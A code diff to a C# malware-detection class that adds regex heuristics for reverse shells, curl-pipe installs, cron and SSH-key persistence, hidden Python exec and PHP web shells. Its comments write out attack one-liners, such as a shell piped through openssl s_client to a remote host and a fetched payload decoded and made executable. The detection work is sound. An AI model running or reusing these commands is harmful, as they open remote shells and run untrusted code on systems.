@@ -15,11 +15,13 @@ internal static partial class UnixSigns
 
     public static IReadOnlyList<ScriptSign> Shell { get; } =
     [
-        new(ScriptHeuristics.ShCurlPipe, CurlPipe()),
-        new(ScriptHeuristics.ShReverseShell, ReverseShell()),
+        new(ScriptHeuristics.ShCurlPipe, script => PipesStranger(script.Code) ?? PipesStranger(script.Folded)),
+        new(ScriptHeuristics.ShReverseShell, script => Printed().Replace(script.Code, "$1\n") is var code && ReverseShell().Match(code) is { Success: true } hands ? ScriptSign.Around(code, hands)
+            : ReverseShell().Match(Printed().Replace(script.Folded, "$1\n")) is { Success: true } folded ? folded.Value : null),
+        new(ScriptHeuristics.ShReverseShell, ShellOverTls()),
         new(ScriptHeuristics.ShPersist, Persistence()),
         new(ScriptHeuristics.ShCron, Cron()),
-        new(ScriptHeuristics.ShDecodePipe, script => ScriptSign.First(script, DecodePipe()) ?? Later(KeptDecoded(), EvaluatesKeptText(), script.Code)),
+        new(ScriptHeuristics.ShDecodePipe, script => ScriptSign.First(script, DecodePipe()) ?? ScriptSign.First(script, DecodesFetched()) ?? Later(KeptDecoded(), EvaluatesKeptText(), script.Code)),
         ScriptSign.All(ScriptHeuristics.TakesDatabases, SchedulerOfDatabase()),
         ScriptSign.All(ScriptHeuristics.TakesContainers, MakesContainer(), BindsRoot()),
         new(ScriptHeuristics.LocksFiles, script => LockingSigns.Locks(script)),
@@ -67,7 +69,7 @@ internal static partial class UnixSigns
         ScriptSign.All(ScriptHeuristics.FalseProcess, KernelName(), SetsName()),
         ScriptSign.All(ScriptHeuristics.PyKeyLogger, ListensToKeys(), SendsKeys()),
         new(ScriptHeuristics.PyHiddenExec, HiddenExec),
-        new(ScriptHeuristics.PyHiddenPayload, script => HiddenExec(script) is { } detour && (ReadsBeside().IsMatch(script.Code) || (Compiles().IsMatch(script.Code) && NumberList().IsMatch(script.Code))) ? detour : null),
+        new(ScriptHeuristics.PyHiddenPayload, script => HiddenExec(script) is { } detour && (ReadsBeside().IsMatch(script.Code) || (ScriptSign.First(script, Compiles()) is not null && (NumberList().IsMatch(script.Code) || UnpacksText().IsMatch(script.Code)))) ? detour : null),
         ScriptSign.All(ScriptHeuristics.PyInstallsUnseen, InstallsPackages(), KeepsWindowAway()),
         ScriptSign.All(ScriptHeuristics.PyStealer, SessionStore(), SessionTokens(), Sends()),
         ScriptSign.All(ScriptHeuristics.TakesDatabases, SchedulerOfDatabase()),
@@ -81,7 +83,7 @@ internal static partial class UnixSigns
     public static IReadOnlyList<ScriptSign> Php { get; } =
     [
         new(ScriptHeuristics.PhpRunsRequest, RunsRequest),
-        new(ScriptHeuristics.PhpWebShell, script => RunsRequest(script) is null ? RunsKeptInput(script) : null),
+        new(ScriptHeuristics.PhpWebShell, script => RunsRequest(script) is null ? RunsKeptInput(script) ?? IncludesInput(script) : null),
         new(ScriptHeuristics.PhpObfuscated, UnpacksItself()),
         new(ScriptHeuristics.PhpHiddenName, HiddenName),
         new(ScriptHeuristics.PhpHiddenEval, script => HidesEvaluation(script) ? ScriptSign.First(script, CallsVariable()) : null),
@@ -107,6 +109,18 @@ internal static partial class UnixSigns
         ScriptSign.All(ScriptHeuristics.ServerKeys, ReadsServerKeys(), WritesAnswer()),
         new(ScriptHeuristics.ServerConfigRuns, SettingsAsPage()),
     ];
+
+    // What makers tell to install their tools by is no stranger's.
+    private static string? PipesStranger(string code) =>
+        CurlPipe().Matches(code).FirstOrDefault(pipe => !PublishersInstallers.AreAllIn(FollowedNames.LineAround(code, pipe))) is { } found ? ScriptSign.Around(code, found) : null;
+
+    // cat <<TEXT at the beginning of a line, and nothing takes what it prints: a text that the script shows, such as its help.
+    [GeneratedRegex(@"^(cat[ \t]{0,4}<<-?[ \t]{0,4}(['""]?)(?<mark>\w{1,40})\2[ \t\r]{0,4})\n(?:(?!\k<mark>[ \t\r]*$)[^\n]*\n){1,500}?(?=\k<mark>[ \t\r]*$)", RegexOptions.Multiline | RegexOptions.CultureInvariant, SearchTime.Limit)]
+    private static partial Regex Printed();
+
+    // sh -i < pipe 2>&1 | openssl s_client -connect host:443 > pipe
+    [GeneratedRegex(@"\b(?:(?:ba|z|da|k)?sh\}?|\$\{?SHELL\b[^\s}]{0,10}\}?)\s+-i\b[^\n|]{0,120}\|\s*openssl\s+s_client\b[^\n]{0,120}-connect\b", RegexOptions.CultureInvariant)]
+    private static partial Regex ShellOverTls();
 
     // sed -i '... pam_exec.so expose_authtok ...' /etc/pam.d/common-auth: every password goes to a program.
     [GeneratedRegex(@"\bpam_exec\.so\b[^\n]{0,120}\bexpose_authtok\b[^\n]{0,300}/etc/pam\.d/|\bpam_exec\.so\b[^\n]{0,120}\bexpose_authtok\b[^\n]{0,120}/(?:tmp|dev/shm|var/tmp)/", RegexOptions.CultureInvariant)]
@@ -227,7 +241,7 @@ internal static partial class UnixSigns
     private static partial Regex EvaluatesFetched();
 
     // "cu""rl", letters exchanged by tr, a command's name in escapes, text encoded twice.
-    [GeneratedRegex(@"\b\w+=[""']?(?:c[""']{2}url|cu[""']{2}rl|cur[""']{2}l|w[""']{2}get|wg[""']{2}et|wge[""']{2}t)\b|\|\s*tr\s+['""]?(?:\[?a-z\]?|\[?a-zA-Z\]?|\[?A-Za-z\]?)['""]?\s+['""]?\[?n-za-m|\|\s*tr\s+['""]?\[?n-za-m[^\n|]{0,20}|base64\b[^\n|]{0,20}\|\s*base64\b|\b(?:printf|echo\s+-\w*e\w*)\s+['""](?:\\x[0-9a-f]{2}){12,}|\$'(?:\\x[0-9a-f]{2}){8,}", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"\b\w+=[""']?(?:c[""']{2}url|cu[""']{2}rl|cur[""']{2}l|w[""']{2}get|wg[""']{2}et|wge[""']{2}t)\b|\|\s*tr\s+['""]?(?:\[?a-z\]?|\[?a-zA-Z\]?|\[?A-Za-z\]?)['""]?\s+['""]?\[?n-za-m|\|\s*tr\s+['""]?\[?n-za-m[^\n|]{0,20}|base64\b[^\n|]{0,20}\|\s*base64\b|\b(?:printf|echo\s+-\w*e\w*)\s+['""](?:\\x[0-9a-f]{2}){12,}|\$\(\s*printf\s+['""](?:\\[0-7]{3}){3,}|""\$\{\w{1,20}\}\$\{\w{1,20}\}""\s+<<<|\$'(?:\\x[0-9a-f]{2}){8,}", RegexOptions.CultureInvariant)]
     private static partial Regex InPieces();
 
     [GeneratedRegex(@"\bchmod\s[^\n&;]{1,80}?(?<p>(?>(?:/tmp|/var/tmp|/dev/shm|/var/run)/(?:[\w-][\w.-]*/){0,8}\.[\w-][\w./-]*))[ \t]*(?:&&|;|\n)\s{0,40}(?:nohup\s+|sudo\s+)?\k<p>(?<=\b(?:wget|curl)\b[\s\S]{0,800})", RegexOptions.CultureInvariant)]
@@ -274,6 +288,10 @@ internal static partial class UnixSigns
     [GeneratedRegex(@"\.send(?:all)?\s*\(", RegexOptions.CultureInvariant)]
     private static partial Regex SendsBack();
 
+    // curl ... | xxd -r -p > f; chmod +x f: a program that came as text.
+    [GeneratedRegex(@"\b(?:curl|wget)\b[^\n|;]{0,300}\|\s*(?:xxd\s+-r|base64\s+(?:-d|-D|--decode))[^\n|;&>]{0,40}>\s*[""']?(?<f>[^\s;&|""']{2,120})[\s;&""'][\s\S]{0,200}?\bchmod\s+(?:[ugoa]*\+x|[0-7]?7[0-7]{2})\s+[""']?\k<f>", RegexOptions.CultureInvariant)]
+    private static partial Regex DecodesFetched();
+
     // J=$(... | base64 -d) ... eval "$J"
     [GeneratedRegex(@"\b(?<v>\w{1,40})=[""']?(?:\$\(|`)(?=[^\n]{1,8000}?(?:base64\s+(?:-d|-D|--decode|-di)|openssl\s+(?:base64|enc)\s[^\n]{0,60}-d|xxd\s+-r))", RegexOptions.CultureInvariant)]
     private static partial Regex KeptDecoded();
@@ -297,7 +315,7 @@ internal static partial class UnixSigns
     // exec by a detour: globals()["__builtins__"]["exec"], getattr(builtins, "ex" + "ec"), a name out of letter codes.
     private static string? HiddenExec(ScriptSource script) => ScriptSign.First(script, ExecByDetour()) ?? ScriptSign.First(script, ExecInCodes());
 
-    [GeneratedRegex(@"\[\s*['""](?:exec|eval)['""]\s*\]\s*\(|\bgetattr\s*\(\s*(?:__builtins__|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*['""](?:exec|eval)['""]|\bgetattr\s*\(\s*(?:__builtins__|builtins|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*(?:['""]\w{1,3}['""]\s*\+|['""]{2}\s*\.\s*join\s*\(|bytes\s*\(|[^,()\n]{0,40}\[\s*::\s*-1\s*\])|\b(?:__builtins__|builtins)\s*\.\s*__dict__\s*\[\s*['""](?:exec|eval)['""]\s*\]|\bgetattr\s*\(\s*__import__\s*\(\s*['""][^'""\n]{1,20}['""]\s*\+", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"\[\s*['""](?:exec|eval)['""]\s*\]\s*\(|\bgetattr\s*\(\s*(?:__builtins__|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*['""](?:exec|eval)['""]|\bgetattr\s*\(\s*(?:__builtins__|builtins|__import__\s*\(\s*[^()\n]{1,60}\))\s*,\s*(?:['""]\w{1,3}['""]\s*\+|['""]{2}\s*\.\s*join\s*\(|bytes\s*\(|[^,()\n]{0,40}\[\s*::\s*-1\s*\])|\b(?:__builtins__|builtins)\s*\.\s*__dict__\s*\[\s*['""](?:exec|eval)['""]\s*\]|\bgetattr\s*\(\s*__import__\s*\(\s*['""][^'""\n]{1,20}['""]\s*\+|\bvars\s*\(\s*sys\s*\.\s*modules\s*\[\s*['""](?:builtins|__builtin__)['""]\s*\]\s*\)|\bgetattr\s*\(\s*\w{1,40}\s*,\s*['""]\w{1,5}['""]\s*\+\s*['""]\w{1,6}['""]\s*\)\s*\(", RegexOptions.CultureInvariant)]
     private static partial Regex ExecByDetour();
 
     [GeneratedRegex(@"\b101\s*,\s*120\s*,\s*101\s*,\s*99\b|\b101\s*,\s*118\s*,\s*97\s*,\s*108\s*[\])]|\b0x65\s*,\s*0x78\s*,\s*0x65\s*,\s*0x63\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
@@ -331,7 +349,7 @@ internal static partial class UnixSigns
 
     private static bool HidesEvaluation(ScriptSource script) => HiddenNames(script).Any(name => EvaluatingName().IsMatch(name)) || LettersOfName().IsMatch(script.Code) || MadeFunction().IsMatch(script.Code) || CallsByDecoded().IsMatch(script.Code);
 
-    [GeneratedRegex(@"^(?:create_function|base64_decode|gzinflate|gzuncompress|str_rot13|assert|eval\(\$\w+\);?|shell_exec|passthru|system|call_user_func)$", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"^(?:create_function|base64_decode|gzinflate|gzuncompress|str_rot13|assert|eval\(\$\w+\);?|shell_exec|passthru|system|call_user_func|php://input)$", RegexOptions.CultureInvariant)]
     private static partial Regex TellingName();
 
     [GeneratedRegex(@"^(?:create_function|assert|eval|shell_exec|passthru|system)", RegexOptions.CultureInvariant)]
@@ -438,6 +456,20 @@ internal static partial class UnixSigns
     // $cmd = $_GET['c']; ... system($cmd . ' 2>&1'); and $f = 'ass' . 'ert'; $f($_POST['x']).
     private static string? RunsKeptInput(ScriptSource script) => ScriptSign.First(script, EvaluatesCall()) ?? StartsKeptInput(script);
 
+    // $tmp = tempnam(...); what came with the request is written there as code; include $tmp
+    private static string? IncludesInput(ScriptSource script) =>
+        (script.Texts.Any(text => text.Contains("php://input", StringComparison.Ordinal)) || BodyOfRequest().IsMatch(script.Code)) && script.Texts.Any(text => text.StartsWith("<?php", StringComparison.OrdinalIgnoreCase))
+            ? Later(TemporaryFile(), IncludesFile(), script.Code) : null;
+
+    [GeneratedRegex(@"php://input|\$_(?:POST|REQUEST|COOKIE)\b", RegexOptions.CultureInvariant)]
+    private static partial Regex BodyOfRequest();
+
+    [GeneratedRegex(@"\$(?<v>\w{1,40})\s{0,20}=\s{0,20}@?(?:tempnam|tmpfile)\s{0,20}\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex TemporaryFile();
+
+    [GeneratedRegex(@"\b(?:include|require)(?:_once)?\s{0,20}\(?\s{0,20}\$(?<v>\w{1,40})\s{0,20}\)?\s{0,20};", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex IncludesFile();
+
     private static string? StartsKeptInput(ScriptSource script)
     {
         foreach (var text in new[] { script.Code, script.Folded })
@@ -488,7 +520,7 @@ internal static partial class UnixSigns
     [GeneratedRegex(@"\b(?:vmsyslogd\s+stop|esxcli\s+system\s+syslog\s+config|find\s+/\s+-name\s+['""]\*\.log['""]\s+(?:-exec\s+\S*rm\b|-delete\b)|rm\s[^\n;&|]{0,120}?[""']?\$0\b|iptables\s+-[AI]\s+INPUT\s[^\n;]{0,60}port\s+(?:23|2323|7547|5555)\s+-j\s+DROP|touch\s+-r\s+/etc/\w|history\s+-c\b|set\s\+o\s+history|HISTFILE=/dev/null|touch\s+-r\s+/(?:usr/)?bin/|chattr\s+-?R?\s*\+i\b|aliyun-service\s+stop|YunJing/uninst|unset\s+HISTFILE|(?:rm|>)\s[^\n;]{0,80}(?:\.bash_history|/var/log/(?:auth|wtmp|secure|messages|syslog|lastlog))|setenforce\s+0|ufw\s+disable|iptables\s+-F|chattr\s+[-+]i\b[^\n;]{0,60}(?:ld\.so\.preload|/tmp/|cron|authorized_keys)|(?:pkill|killall)\s[^\n;]{0,60}(?:xmrig|kinsing|kdevtmpfsi|miner|watchbog|xmr)|systemctl\s+(?:stop|disable)\s+(?:apparmor|aliyun|firewalld|auditd|clamav))", RegexOptions.CultureInvariant)]
     private static partial Regex Cover();
 
-    [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:requests\s*\.\s*get|urlopen|urllib2?\s*\.\s*\w+|httpx\s*\.\s*get)\s*\(", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:requests\s*\.\s*get|urlopen|urllib2?\s*\.\s*\w+|httpx\s*\.\s*get)\s*\(|['""]-c['""]\s*,\s*(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:requests\s*\.\s*get|urlopen|httpx\s*\.\s*get)\s*\(", RegexOptions.CultureInvariant)]
     private static partial Regex ExecOfDownload();
 
     [GeneratedRegex(@"\bVirtualAlloc(?:Ex)?\b|\bVirtualProtect\b", RegexOptions.CultureInvariant)]
@@ -518,7 +550,7 @@ internal static partial class UnixSigns
     [GeneratedRegex(@"(?:bash|sh)\s+-i\s*[>&<]+\s*/dev/(?:tcp|udp)/|exec\s+\d+<>\s*/dev/(?:tcp|udp)/(?>\S{1,200})[\s\S]{0,200}(?:(?:sh|bash)\b[^\n]{0,60}[<>]&\s*\d|<&\s*\d[^\n]{0,80}\|\s*(?:/bin/)?(?:ba|z|da)?sh\b)|\bnc(?:at|\.traditional)?\s+(?:-\w{1,20}\s{1,20}){0,10}(?:-e|-c)\s{1,20}/?\S{0,100}sh\b|\bnc\s[^\n|]{0,80}-e\s+/bin/|mkfifo\s+(?<pipe>[^\s;]{1,200})[;\s](?>[^\n]{0,200}?\b(?:nc|telnet|openssl)\b)[^\n]{0,400}\k<pipe>|socat\s[^\n]{0,100}exec:['""]?(?:/bin/)?(?:ba)?sh|exec\s+\d+<>\s*/dev/(?:tcp|udp)/[\s\S]{1,300}(?:while\s+read[^\n]{0,100}\bdo\s+\\*[$`]|sh\s[^\n]{0,60}[<>]&\s*\d)|(?>\b(?:perl|python[23]?|ruby|php|lua|node|awk)\s+-\w{0,20}[ecr]\s[^\n]{0,600}?(?:socket|fsockopen|TCPSocket|net\.connect|/inet/tcp))[^\n]{0,1000}(?:/bin/(?:ba)?sh|pty\.spawn|exec\s*\(|\bsh\s+-i)|(?:nc|ncat|telnet)\s[^\n|]{0,100}\|\s*(?:/bin/)?(?:ba)?sh\b[^\n]{0,40}[|>]", RegexOptions.CultureInvariant)]
     private static partial Regex ReverseShell();
 
-    [GeneratedRegex(@"(?>(?:\(\s*crontab\s+-l[^)\n]{0,300}?|echo\s[^\n|]{0,300}?)(?:/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}\|\s{0,20}crontab\b|(?>(?:echo|printf|cat)\s[^\n]{0,300}?(?:/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}>\s{0,20}/etc/cron|(?:echo|printf|cat)\s[^\n]{0,300}>>?\s*/etc/ld\.so\.preload|(?>(?:wget|curl)\s[^\n]{0,300}?\s(?:/\w{1,60}){0,12}/\.\w)[^\n]{0,500}chmod\s|>>\s*(?:~|\$HOME|/root|/(?:mnt|host)/root)/\.ssh/authorized_keys|\bExecStart=[^\n]{0,80}(?:<\(\s*(?:curl|wget)\b|(?:curl|wget)\b[^\n]{0,200}\|\s*(?:/bin/)?(?:ba)?sh\b)|(?:echo|printf)\s[^\n]{0,300}\|\s*(?:ba)?sh\b[^\n]{0,80}>\s*/etc/(?:update-motd\.d|profile\.d)/|(?:echo|printf)\s[^\n]{1,200}/\.\w[^\n]{0,100}&['""]?\s*>>\s*\S{0,40}/\.(?:bashrc|profile|zshrc|bash_profile)\b|\bcurl\s[^\n]{0,300}/\.\w[\s\S]{0,1500}?\blaunchctl\s+(?:load|bootstrap)\b", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"(?>(?:\(\s*crontab\s+-l[^)\n]{0,300}?|echo\s[^\n|]{0,300}?)(?:(?<!>\s{0,2})/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}\|\s{0,20}crontab\b|(?>(?:echo|printf|cat)\s[^\n]{0,300}?(?:/tmp/|/dev/shm/|/var/tmp/|/\.\w|curl\s|wget\s|base64\s))[^\n]{0,600}>\s{0,20}/etc/cron|(?:echo|printf|cat)\s[^\n]{0,300}>>?\s*/etc/ld\.so\.preload|(?>(?:wget|curl)\s[^\n]{0,300}?\s(?:/\w{1,60}){0,12}/\.\w)[^\n]{0,500}chmod\s|>>\s*(?:~|\$HOME|/root|/(?:mnt|host)/root)/\.ssh/authorized_keys|\b(?:echo|printf)\s+['""]?ssh-(?:rsa|ed25519)\s[^\n>]{40,1600}>>\s*""?\$\{?\w{1,40}\}?/\.ssh/authorized_keys|\bExecStart=[^\n]{0,80}(?:<\(\s*(?:curl|wget)\b|(?:curl|wget)\b[^\n]{0,200}\|\s*(?:/bin/)?(?:ba)?sh\b)|(?:echo|printf)\s[^\n]{0,300}\|\s*(?:ba)?sh\b[^\n]{0,80}>\s*/etc/(?:update-motd\.d|profile\.d)/|(?:echo|printf)\s[^\n]{1,200}/\.\w[^\n]{0,100}&['""]?\s*>>\s*\S{0,40}/\.(?:bashrc|profile|zshrc|bash_profile)\b|\bcurl\s[^\n]{0,300}/\.\w[\s\S]{0,1500}?\blaunchctl\s+(?:load|bootstrap)\b", RegexOptions.CultureInvariant)]
     private static partial Regex Persistence();
 
     [GeneratedRegex(@"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:__import__\s*\(\s*['""]\w+['""]\s*\)\s{0,20}\.\s{0,20}|\w{1,60}\s{0,20}\.\s{0,20}){0,10}(?:b64decode|decompress|loads|unhexlify|fromhex|a85decode|b32decode)\s*\(|\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:bytes\s*\(\s*\[|['""]{1,3}(?:\\x[0-9a-f]{2}){20})|exec\s*\(\s*\(\s*lambda\b[^\n]{0,200}(?:b85decode|b64decode|decompress|marshal|fromhex)|exec\s*\(\s*\(\s*_\s*\)\s*\(|\b(?:exec|eval)\s*\(\s*(?:\w{1,60}\s{0,20}\.\s{0,20}){0,10}Fernet\s*\([^\n]{0,200}\)\s*\.\s*decrypt\s*\(", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
@@ -548,7 +580,10 @@ internal static partial class UnixSigns
     [GeneratedRegex(@"__file__[^\n]{0,120}(?:\.read(?:_text|_bytes)?\s*\(|\bopen\s*\()|\b(?:open|Path)\s*\([^\n]{0,80}__file__", RegexOptions.CultureInvariant)]
     private static partial Regex ReadsBeside();
 
-    [GeneratedRegex(@"\bcompile\s*\([^\n]{1,200},\s*['""](?:exec|eval)['""]", RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"\b(?:codecs\s*\.\s*decode|bytes\s*\.\s*fromhex|unhexlify|b64decode|b85decode)\s*\(", RegexOptions.CultureInvariant)]
+    private static partial Regex UnpacksText();
+
+    [GeneratedRegex(@"\bcompile(?:['""]\s*\])?\s*\([^\n]{1,200},\s*['""](?:exec|eval)['""]", RegexOptions.CultureInvariant)]
     private static partial Regex Compiles();
 
     [GeneratedRegex(@"(?:\b(?:0x[0-9a-fA-F]{1,2}|\d{1,3})\s{0,20},\s{0,20}){24}", RegexOptions.CultureInvariant)]
